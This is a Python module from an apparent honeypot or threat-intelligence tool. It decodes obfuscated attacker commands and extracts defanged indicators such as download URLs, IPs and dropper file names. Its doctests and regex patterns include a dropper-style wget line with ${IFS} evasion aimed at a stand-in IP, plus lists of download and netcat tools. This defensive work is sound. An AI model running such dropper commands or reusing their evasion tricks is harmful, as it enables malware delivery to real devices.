"""Extract typed, normalised indicators (URLs, hosts, dropper files) from attacker commands.

Text is first decoded (:mod:`~teiten.classify.decoding`) the ways droppers
hide commands: HTML/XML entities, URL encoding (``+`` as a space in the first
round), ``\\x41`` and octal escapes, ``${IFS}``/``$IFS``; backticks and ``$(…)``
become command separators. Up to three rounds run, for double encoding. The result is cut
into simple commands and each is read the way its program would: ``wget`` and
``curl`` URLs (a bare ``host/path`` is an ``http://`` URL), ``wget -g HOST -r
FILE``, ``tftp -g -r FILE HOST`` in any option order, ``tftp HOST -c get
FILE``, ``ftpget [-P PORT] HOST LOCAL REMOTE``, ``nc HOST PORT``; any
``http``, ``https``, ``ftp`` or ``tftp`` URL counts too, but only on a line
that looks like a command (shell syntax or a downloader's name): a plain
firmware URL in a form field is not an indicator.

Values are normalised (lower-case scheme and host, default ports dropped,
empty path ``/``), deduplicated in first-seen order and typed ``url``,
``domain``, ``ip``, ``ip_port`` or ``filename``. Nothing is ever resolved,
fetched or run. :func:`defang` is for text people read; machine output keeps
exact values.

>>> [(i.type, i.value) for i in extract_indicators("cd /tmp;wget${IFS}198.51.100.7/x.sh")]
[('url', 'http://198.51.100.7/x.sh'), ('ip', '198.51.100.7'), ('filename', 'x.sh')]
>>> defang("http://198.51.100.7/okiru.sh")
'hxxp://198.51.100[.]7/okiru.sh'
"""

from __future__ import annotations

import ipaddress
import re
from dataclasses import dataclass
from functools import lru_cache

from teiten.classify.decoding import MAX_BYTES, MAX_TEXT, byte_values, decode, decode_escaped

__all__ = ["MAX_TEXT", "Indicator", "decode", "defang", "defang_text", "extract_indicators",
           "extract_indicators_from_bytes", "might_interest"]  # fmt: skip

MAX_INDICATORS = 256
CACHE_SIZE = 256
CACHE_TEXT = 4096
TYPES = ("url", "domain", "ip", "ip_port", "filename")
DEFAULT_PORTS = {"http": 80, "https": 443, "ftp": 21, "tftp": 69}
_DEFANGED_SCHEMES = {"http": "hxxp", "https": "hxxps", "ftp": "fxp", "tftp": "tfxp"}

_WRAPPERS = re.compile(r"`|\$\(|\)")
_SEPARATORS = re.compile(r"[;\n\r]|&&|\|\||[|&]")
_COMMANDISH = re.compile(
    r"`|\$\(|;|\||&&|\b(?:wget|curl|tftp|ftpget|busybox|nc|ncat|netcat|sh|bash|chmod)\b"
)
_INTERESTING = re.compile(r"://|wget|curl|tftp|ftpget|\bnc\b|netcat", re.IGNORECASE)
_WORDS = re.compile(rb"://|wget|curl|tftp|ftpget|nc|netcat")
"""``_INTERESTING``'s words, ``nc`` without its word boundaries (:func:`might_interest`)."""
_URL = re.compile(r"(?i)\b(?:https?|t?ftp)://[^\s'\"`<>;|&(){}\\^]+")
_URL_PARTS = re.compile(r"(?i)([a-z]+)://(?:[^@/?#]*@)?(\[[0-9a-f:.]+\]|[^/:?#]+)(?::(\d*))?(.*)")
_HOST_PATH = re.compile(r"([^/:?#\s]+)(?::(\d{1,5}))?(/\S*)?")
_ASSIGN = re.compile(r"[\w\[\].-]+=(.*)")
_DOMAIN = re.compile(r"(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9]")
_PREFIXES = frozenset({"busybox", "nohup", "sudo", "exec", "command", "env"})
_VALUE_OPTIONS = {  # options that take a value, per program
    "wget": "-O -o -P -U -T -t -e -Y -a --header --user-agent --output-document",
    "curl": "-o -A -H -d -X -u -e -m -x -T -b -c --output --user-agent",
    "tftp": "-l -r -b",
    "ftpget": "-u -p -P",
}


@dataclass(frozen=True)
class Indicator:
    """One indicator: its type (one of :data:`TYPES`) and normalised value."""

    type: str
    value: str

    @property
    def defanged(self) -> str:
        """The value made safe to paste into chat or a report (see :func:`defang`)."""
        return defang(self.value)


def defang(value: str) -> str:
    """``value`` with its scheme and the last dot of its host broken so nothing links it.

    >>> defang("tftp://loader.example:6969/mips"), defang("198.51.100.7:8080")
    ('tfxp://loader[.]example:6969/mips', '198.51.100[.]7:8080')
    """
    scheme, sep, rest = value.partition("://")
    if not sep:
        return _break_dot(value)
    host, slash, tail = rest.partition("/")
    return f"{_DEFANGED_SCHEMES.get(scheme.lower(), scheme)}://{_break_dot(host)}{slash}{tail}"


def defang_text(text: str) -> str:
    """``text`` with every URL in it defanged (for showing matched payload text to people)."""
    return _URL.sub(lambda m: defang(m[0]), text)


def _break_dot(host: str) -> str:
    name, colon, port = host.rpartition(":") if host.count(":") == 1 else (host, "", "")
    head, dot, last = name.rpartition(".")
    return f"{head}[.]{last}{colon}{port}" if dot else host


def extract_indicators(text: str) -> tuple[Indicator, ...]:
    """The indicators in attacker text (decoded first), deduplicated in first-seen order.

    Results for the last :data:`CACHE_SIZE` distinct short texts are kept (bots
    repeat the same command to every address they scan).
    """
    return _extract_cached(text) if len(text) <= CACHE_TEXT else _extract(text)


def extract_indicators_from_bytes(data: bytes) -> tuple[Indicator, ...]:
    """``extract_indicators(data.decode("utf-8", "backslashreplace"))``, faster.

    The bytes are decoded in escaped form (:func:`~teiten.classify.decoding.decode_escaped`):
    random bytes need no call per byte that is not UTF-8, and most of them are then
    dismissed by :func:`might_interest` before any per-character work.
    """
    if len(data) > MAX_BYTES:
        return extract_indicators(data.decode("utf-8", "backslashreplace"))
    text = decode_escaped(data)
    return _indicators_in(byte_values(text)) if might_interest(text) else ()


@lru_cache(maxsize=CACHE_SIZE)
def _extract_cached(text: str) -> tuple[Indicator, ...]:
    return _extract(text)


def _extract(text: str) -> tuple[Indicator, ...]:
    decoded = decode(text)
    return _indicators_in(decoded) if might_interest(decoded) else ()


def might_interest(text: str) -> bool:
    """False only when no part of decoded ``text`` can be interesting (``_INTERESTING``).

    One search on the text's ASCII characters, lowered, with each other character as
    ``?``; the case-insensitive regex tries every alternative at every character. Its
    words hold none of the letters (i, k, s) that characters beyond ASCII fold to, and
    ``\\bnc\\b`` depends on Unicode word characters, so any ``nc`` counts here.
    """
    return _WORDS.search(text.encode("ascii", "replace").lower()) is not None


def _indicators_in(text: str) -> tuple[Indicator, ...]:
    """The indicators in already decoded text (that :func:`might_interest` let through)."""
    if not _INTERESTING.search(text):
        return ()
    found: dict[tuple[str, str], None] = {}
    for line in text.split("\n"):
        if not _COMMANDISH.search(line):
            continue
        for segment in _SEPARATORS.split(_WRAPPERS.sub(";", line)):
            if not _INTERESTING.search(segment):
                continue
            for indicator in _from_command(segment):
                found.setdefault((indicator.type, indicator.value))
                if len(found) >= MAX_INDICATORS:
                    return tuple(Indicator(t, v) for t, v in found)
    return tuple(Indicator(t, v) for t, v in found)


def _tokens(segment: str) -> list[str]:
    tokens = [t.replace("'", "").replace('"', "").replace("\\", "") for t in segment.split()]
    tokens = [t for t in tokens if t]
    if tokens and (m := _ASSIGN.fullmatch(tokens[0])):
        tokens = [m[1], *tokens[1:]] if m[1] else tokens[1:]
    while tokens and tokens[0].rpartition("/")[2] in _PREFIXES:
        tokens = tokens[1:]
    return tokens


def _from_command(segment: str) -> list[Indicator]:
    out: list[Indicator] = []
    for m in _URL.finditer(segment):
        out += _url_indicators(m[0].rstrip(".,"))
    tokens = _tokens(segment)
    if not tokens:
        return out
    program = tokens[0].rpartition("/")[2].lower()
    if program in ("wget", "curl"):
        out += _downloader(program, tokens[1:])
    elif program == "tftp":
        out += _tftp(tokens[1:])
    elif program == "ftpget":
        out += _ftpget(tokens[1:])
    elif program in ("nc", "ncat", "netcat"):
        out += _netcat(tokens[1:])
    return out


def _options(program: str, args: list[str]) -> tuple[dict[str, str], list[str]]:
    """Options that take a value (``-r FILE``, ``-rFILE``) and the positional arguments."""
    takes = _VALUE_OPTIONS.get(program, "").split()
    values: dict[str, str] = {}
    positional: list[str] = []
    i = 0
    while i < len(args):
        arg = args[i]
        if arg in takes and i + 1 < len(args):
            values.setdefault(arg, args[i + 1])
            i += 2
            continue
        if arg[:2] in takes and len(arg) > 2 and not arg.startswith("--"):
            values.setdefault(arg[:2], arg[2:])
        elif not arg.startswith("-"):
            positional.append(arg)
        i += 1
    return values, positional


def _downloader(program: str, args: list[str]) -> list[Indicator]:
    if "-g" in args:  # ``wget -g HOST -r FILE``: TFTP-style options given to wget
        at = args.index("-g")
        host = args[at + 1] if at + 1 < len(args) else ""
        values = _options("tftp", args)[0]
        remote = values.get("-r", values.get("-l", ""))
        return _host_indicators(host, None) + _file_indicators(remote)
    out: list[Indicator] = []
    for arg in _options(program, args)[1]:
        if "://" not in arg:
            m = _HOST_PATH.fullmatch(arg)
            if m and (m[3] or _ip(m[1])):
                out += _url_indicators(f"http://{arg}")
    return out


def _tftp(args: list[str]) -> list[Indicator]:
    if "-c" in args:  # ``tftp HOST -c get FILE`` (the classic client)
        at = args.index("-c")
        remote = args[at + 2] if at + 2 < len(args) else ""
        positional = args[:at]
    else:
        values, positional = _options("tftp", args)
        remote = values.get("-r", values.get("-l", ""))
    if not positional:
        return _file_indicators(remote)
    port = positional[1] if len(positional) > 1 and positional[1].isdigit() else ""
    netloc = f"{positional[0]}:{port}" if port else positional[0]
    if remote:
        return _url_indicators(f"tftp://{netloc}/{remote.lstrip('/')}")
    return _host_indicators(positional[0], int(port) if port else None)


def _ftpget(args: list[str]) -> list[Indicator]:
    values, positional = _options("ftpget", args)
    if not positional:
        return []
    remote = positional[-1] if len(positional) > 1 else ""
    port = values.get("-P", "")
    netloc = f"{positional[0]}:{port}" if port.isdigit() else positional[0]
    if remote:
        return _url_indicators(f"ftp://{netloc}/{remote.lstrip('/')}")
    return _host_indicators(positional[0], None)


def _netcat(args: list[str]) -> list[Indicator]:
    positional = _options("nc", args)[1]
    if len(positional) >= 2 and positional[1].isdigit():
        return _host_indicators(positional[0], int(positional[1]))
    return []


def _ip(host: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address | None:
    try:
        return ipaddress.ip_address(host.strip("[]"))
    except ValueError:
        return None


def _host_indicators(host: str, port: int | None, scheme: str = "") -> list[Indicator]:
    """``ip`` (and ``ip_port`` for a non-default port) or ``domain``; nothing if invalid."""
    host = host.lower().rstrip(".")
    ip = _ip(host)
    if ip is None:
        ok = len(host) <= 253 and _DOMAIN.fullmatch(host)
        return [Indicator("domain", host)] if ok else []
    out = [Indicator("ip", str(ip))]
    if port is not None and 0 < port < 65536 and port != DEFAULT_PORTS.get(scheme):
        shown = f"[{ip}]" if ip.version == 6 else str(ip)
        out.append(Indicator("ip_port", f"{shown}:{port}"))
    return out


def _file_indicators(path: str) -> list[Indicator]:
    name = path.rpartition("/")[2]
    if not name or "$" in name or "=" in name or len(name) > 128:
        return []
    return [Indicator("filename", name)]


def _url_indicators(raw: str) -> list[Indicator]:
    m = _URL_PARTS.fullmatch(raw)
    if not m:
        return []
    scheme, host, port_text, rest = m[1].lower(), m[2].lower().rstrip("."), m[3] or "", m[4]
    port = int(port_text) if port_text.isdigit() and len(port_text) <= 5 else None
    hosts = _host_indicators(host, port, scheme)
    files = _file_indicators(rest.split("?")[0].split("#")[0])
    if not hosts or scheme not in DEFAULT_PORTS or (port_text and port is None):
        return files  # a masked or broken host (``http://[redacted]/okiru.sh``)
    netloc = host if port in (None, DEFAULT_PORTS[scheme]) else f"{host}:{port}"
    url = f"{scheme}://{netloc}{rest if rest.startswith('/') else '/' + rest}"
    return [Indicator("url", url), *hosts, *files]
